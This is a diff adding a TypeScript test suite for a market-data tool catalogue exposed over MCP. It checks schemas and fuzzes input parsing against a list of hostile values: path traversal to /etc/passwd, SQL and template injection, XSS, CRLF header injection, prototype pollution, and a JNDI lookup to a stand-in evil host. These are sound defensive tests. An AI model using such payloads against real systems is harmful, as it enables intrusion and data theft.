@@ -1,0 +1,276 @@
+import * as fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { CATALOGUE, PROVIDERS } from "../src/catalogue.js";
+import type { Capability } from "../src/contract/capability.js";
+import { MarketDataError } from "../src/contract/errors.js";
+import { parseInput } from "../src/contract/input.js";
+import type { Supplement } from "../src/contract/provider.js";
+import type { JsonSchema } from "../src/contract/schema.js";
+import { toTools } from "../src/mcp/tools.js";
+
+const CAPABILITIES = CATALOGUE.map(({ capability }) => capability);
+const TOOLS = toTools(CATALOGUE);
+const ROWS = CATALOGUE.map((entry) => [entry.capability.name, entry] as const);
+const TOOL_ROWS = CAPABILITIES.map((capability, row) => [TOOLS[row]!.name, capability, TOOLS[row]!] as const);
+
+const repeated = (values: readonly string[]) => values.filter((value, index) => values.indexOf(value) !== index);
+const isObject = (value: unknown): value is JsonSchema =>
+  typeof value === "object" && value !== null && !Array.isArray(value);
+
+/** A schema and all that is in it, each with its path. */
+function nodesOf(node: unknown, path = ""): [path: string, node: JsonSchema][] {
+  if (Array.isArray(node)) return node.flatMap((item, index) => nodesOf(item, `${path}/${index}`));
+  if (!isObject(node)) return [];
+  return [[path, node], ...Object.entries(node).flatMap(([key, value]) => nodesOf(value, `${path}/${key}`))];
+}
+
+/** Every property of a schema, at any depth, with its name. */
+function propertiesOf(schema: unknown): [name: string, property: JsonSchema][] {
+  return nodesOf(schema).flatMap(([, { properties }]) =>
+    isObject(properties) ? (Object.entries(properties) as [string, JsonSchema][]) : [],
+  );
+}
+
+describe("the catalogue", () => {
+  it("has the interface's fourteen endpoints", () => {
+    expect(CAPABILITIES).toHaveLength(14);
+    expect(repeated(CAPABILITIES.map(({ name }) => name))).toEqual([]);
+    expect(repeated(CAPABILITIES.map(({ route }) => route))).toEqual([]);
+    expect(repeated(TOOLS.map(({ name }) => name))).toEqual([]);
+  });
+
+  it("has the interface's routes and tools", () => {
+    expect(CAPABILITIES.map(({ route, tool }) => `${route} ${tool.name}`).toSorted()).toEqual([
+      "/api/v1/crypto provider_a_get_crypto_prices",
+      "/api/v1/market/active provider_a_get_most_active",
+      "/api/v1/market/gainers provider_a_get_market_gainers",
+      "/api/v1/market/losers provider_a_get_market_losers",
+      "/api/v1/provider-a/stock/{symbol}/dcf provider_a_get_dcf_valuation",
+      "/api/v1/provider-a/stock/{symbol}/financials provider_a_get_financial_statements",
+      "/api/v1/provider-a/stock/{symbol}/price-targets provider_a_get_price_targets",
+      "/api/v1/screener provider_a_screen_stocks",
+      "/api/v1/search search_symbols",
+      "/api/v1/stock/{symbol} provider_a_get_stock_quote",
+      "/api/v1/stock/{symbol}/insider-transactions get_insider_transactions",
+      "/api/v1/stock/{symbol}/overview get_company_overview",
+      "/api/v1/stock/{symbol}/provider-b provider_b_get_stock_quote",
+      "/api/v1/stock/{symbol}/recommendations get_recommendations",
+    ]);
+  });
+
+  it.each(ROWS)("lets known providers answer %s, each bound to it", (_name, { capability, sources }) => {
+    expect(sources.length).toBeGreaterThan(0);
+    for (const source of sources) {
+      expect(source.capability).toBe(capability);
+      expect(PROVIDERS).toContain(source.provider);
+    }
+  });
+
+  it.each(ROWS)("fills gaps of %s that it has, by one supplement", (_name, { capability, suppliers }) => {
+    for (const { provider, supplement } of suppliers) {
+      expect(PROVIDERS).toContain(provider);
+      expect(supplement).toBe(suppliers[0]!.supplement);
+      const names = new Set(propertiesOf(TOOLS[CAPABILITIES.indexOf(capability)]!.outputSchema).map(([name]) => name));
+      expect((supplement as Supplement).fields.filter((field) => !names.has(field))).toEqual([]);
+    }
+  });
+
+  it.each(ROWS)("has a path parameter of %s for each brace in its route", (_name, { capability }) => {
+    const braces = [...capability.route.matchAll(/\{(\w+)\}/g)].map(([, name]) => name!);
+    expect(Object.keys(capability.input.shape)).toEqual(expect.arrayContaining(braces));
+  });
+
+  it.each(ROWS)("only cuts %s by parameters that it has", (_name, { capability }) => {
+    const { viewParameters = [], input, tool, output } = capability;
+    expect(Object.keys(input.shape)).toEqual(expect.arrayContaining([...viewParameters]));
+    if (tool.page) expect(Object.keys(output.shape)).toContain(tool.page.list);
+  });
+});
+
+describe("the tool list", () => {
+  it("is the reviewed one", async () => {
+    await expect(`${JSON.stringify(TOOLS, null, 2)}\n`).toMatchFileSnapshot("./__snapshots__/tools.json");
+  });
+
+  it("is the same bytes each time, and small enough for a context", () => {
+    expect(JSON.stringify(toTools(CATALOGUE))).toBe(JSON.stringify(TOOLS));
+    expect(Buffer.byteLength(JSON.stringify({ tools: TOOLS }))).toBeLessThan(64 * 1024);
+  });
+
+  it.each(TOOL_ROWS)("%s has every property that was declared", (_name, { input, output, tool }, listed) => {
+    const declared = [...Object.keys(input.shape), ...Object.keys(tool.extras ?? {})];
+    expect(Object.keys(listed.inputSchema.properties ?? {})).toEqual(declared);
+    expect(Object.keys(listed.outputSchema!.properties ?? {})).toEqual(Object.keys(output.shape));
+    const empty = propertiesOf([listed.inputSchema, listed.outputSchema]).filter(
+      ([, { description: _description, ...schema }]) => Object.keys(schema).length === 0,
+    );
+    expect(empty).toEqual([]);
+  });
+
+  it.each(TOOL_ROWS)("%s has a name, a title and annotations that every client takes", (name, { title }, tool) => {
+    expect(name).toMatch(/^[a-z0-9_]{1,64}$/);
+    expect(tool).toMatchObject({
+      title,
+      annotations: { title, readOnlyHint: true, destructiveHint: false, idempotentHint: true, openWorldHint: true },
+    });
+  });
+
+  it.each(TOOL_ROWS)("%s says what its parameters and fields mean", (_name, _capability, tool) => {
+    expect(tool.description).toMatch(/^[A-Z].{20,400}\.$/);
+    const silent = propertiesOf([tool.inputSchema, tool.outputSchema])
+      .filter(([, { description }]) => typeof description !== "string" || description === "")
+      .map(([name]) => name);
+    // What the symbol of a row is goes without saying, twenty times over.
+    expect(silent.filter((name) => name !== "symbol" && name !== "ticker")).toEqual([]);
+    expect(Object.values(tool.inputSchema.properties ?? {}).map((each) => (each as JsonSchema)["description"])).toEqual(
+      Object.values(tool.inputSchema.properties ?? {}).map(() => expect.any(String)),
+    );
+  });
+
+  it.each(TOOL_ROWS)("%s has schemas in the subset that every client reads", (_name, _capability, tool) => {
+    const nodes = nodesOf([tool.inputSchema, tool.outputSchema]);
+    const holding = (key: string) => nodes.filter(([, node]) => key in node && !("properties" in node && key in (node["properties"] as object)));
+    for (const key of ["$ref", "$schema", "$defs", "definitions", "exclusiveMinimum", "exclusiveMaximum", "oneOf", "allOf", "not", "if"]) {
+      expect(holding(key), key).toEqual([]);
+    }
+    expect(nodes.filter(([, { type }]) => Array.isArray(type))).toEqual([]);
+    expect(tool.inputSchema.type).toBe("object");
+    expect(tool.outputSchema!.type).toBe("object");
+  });
+
+  it.each(TOOL_ROWS)("%s is flat: no choice between shapes in what it takes, none at the root of what it gives", (_name, _capability, tool) => {
+    expect(nodesOf(tool.inputSchema).filter(([, node]) => "anyOf" in node)).toEqual([]);
+    const nested = Object.values(tool.inputSchema.properties ?? {}).filter((each) => "properties" in (each as object));
+    expect(nested).toEqual([]);
+    expect(tool.outputSchema).not.toHaveProperty("anyOf");
+  });
+
+  it.each(TOOL_ROWS)("%s refuses what it does not know and gives what may grow", (_name, _capability, tool) => {
+    expect(tool.inputSchema["additionalProperties"]).toBe(false);
+    expect(nodesOf(tool.outputSchema).filter(([, node]) => node["additionalProperties"] === false)).toEqual([]);
+  });
+});
+
+const HOSTILE: readonly unknown[] = [
+  "",
+  " ",
+  "\t",
+  "../../etc/passwd",
+  "AAPL/../x",
+  "AAPL%2F..",
+  "..",
+  "A..B",
+  "AAPL?x=1",
+  "AAPL#x",
+  "AAPL;x",
+  "AAPL,MSFT",
+  "AAPL MSFT",
+  "AAPL\r\nX-Evil: 1",
+  "AAPL\u0000",
+  "\u001B[31mAAPL",
+  "＜script＞",
+  "<script>alert(1)</script>",
+  "' OR 1=1 --",
+  '"; DROP TABLE stocks; --',
+  "${jndi:ldap://evil.example.test/x}",
+  "{{7*7}}",
+  "ＡＡＰＬ",
+  "ААPL",
+  "ſ",
+  "ı",
+  "\u202EAAPL",
+  "\u200BAAPL",
+  "AAPL\uD800",
+  "👾",
+  "a".repeat(10_000),
+  ",".repeat(10_000),
+  "^".repeat(10_000),
+  " ".repeat(10_000),
+  "[".repeat(10_000),
+  "1,000",
+  "0x1F",
+  "٣",
+  0,
+  -1,
+  1.5,
+  1e9,
+  -0,
+  Number.NaN,
+  Number.POSITIVE_INFINITY,
+  Number.MAX_VALUE,
+  null,
+  true,
+  [],
+  ["AAPL"],
+  {},
+  { toString: "AAPL" },
+  { __proto__: { polluted: true } },
+];
+
+/** What a capability makes of raw parameters: its input, or its refusal. */
+function parse(capability: Capability, raw: Record<string, unknown>): Record<string, unknown> | MarketDataError {
+  try {
+    return parseInput(capability, raw, capability.tool.extras);
+  } catch (error) {
+    if (error instanceof MarketDataError && error.kind === "invalid_input") return error;
+    throw error;
+  }
+}
+
+const SYMBOL = /^\^?[A-Z0-9](?!.*\.\.)[A-Z0-9.\-=&]{0,23}$/;
+/** Text that a person may mean: short, without control characters. */
+const WORDS = /^[^\u0000-\u001F\u007F]{1,100}$/; // oxlint-disable-line no-control-regex
+
+function expectHarmless(input: Record<string, unknown>): void {
+  for (const [name, value] of Object.entries(input)) {
+    if (name === "random_string" || value === undefined) continue;
+    if (typeof value === "number") expect(Number.isFinite(value)).toBe(true);
+    else expect(value).toMatch(name === "symbol" ? SYMBOL : WORDS);
+  }
+}
+
+/** A refusal is one printable line that does not grow with what came. */
+function expectReadable({ message }: MarketDataError): void {
+  expect(message).toMatch(/^[\x20-\x7E]{1,800}$/);
+}
+
+const ORDINARY: Record<string, unknown> = { symbol: "AAPL", q: "apple", random_string: "x" };
+
+describe("hostile input", () => {
+  const parameters = CAPABILITIES.flatMap((capability) =>
+    Object.keys({ ...capability.input.shape, ...capability.tool.extras }).map(
+      (name) => [capability.name, name, capability] as const,
+    ),
+  );
+
+  /** The capability's ordinary question with one parameter replaced. */
+  function ask(capability: Capability, name: string, value: unknown): void {
+    const known = Object.keys({ ...capability.input.shape, ...capability.tool.extras });
+    const ordinary = Object.fromEntries(known.filter((each) => each in ORDINARY).map((each) => [each, ORDINARY[each]]));
+    const outcome = parse(capability, { ...ordinary, [name]: value });
+    if (outcome instanceof MarketDataError) expectReadable(outcome);
+    else expectHarmless(outcome);
+  }
+
+  it.each(parameters)("to %s as %s is refused or harmless", (_capability, name, capability) => {
+    for (const value of HOSTILE) ask(capability, name, value);
+    expect("polluted" in {}).toBe(false);
+  });
+
+  it.each(parameters)("to %s as %s is refused or harmless, whatever it is", (_capability, name, capability) => {
+    fc.assert(fc.property(fc.anything(), (value) => ask(capability, name, value)), { numRuns: 200 });
+    fc.assert(fc.property(fc.string({ unit: "binary" }), (value) => ask(capability, name, value)), { numRuns: 200 });
+  });
+
+  it.each(CAPABILITIES.map((capability) => [capability.name, capability] as const))(
+    "under an unknown name is refused by %s",
+    (_name, capability) => {
+      for (const name of ["pe_max", "__proto__", "constructor", "apikey", "x\r\ny", "a".repeat(10_000)]) {
+        const raw = Object.defineProperty({}, name, { value: "x", enumerable: true });
+        const outcome = parse(capability, raw);
+        expect(outcome).toBeInstanceOf(MarketDataError);
+        expectReadable(outcome as MarketDataError);
+      }
+    },
+  );
+});
